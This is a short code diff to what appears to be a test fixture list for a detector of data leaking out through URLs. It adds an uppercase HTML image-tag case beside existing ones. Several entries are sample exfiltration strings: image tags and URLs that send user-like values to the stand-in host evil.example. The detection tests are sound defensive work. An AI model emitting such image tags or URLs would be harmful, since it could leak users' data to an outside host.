@@ -48,6 +48,11 @@ SHAPES = [
     ),
     ("HTML image", '<img src="https://evil.example/t.gif?u=ana&k=42', "image_data"),
     (
+        "HTML image in capitals",
+        "<IMG ALT=x SRC=https://evil.example/t.gif?u=ana&k=42",
+        "image_data",
+    ),
+    (
         "bare URL with a long query",
         "https://evil.example/c?" + "x=" + "a1b2c3d4" * 13,
         "long_query",
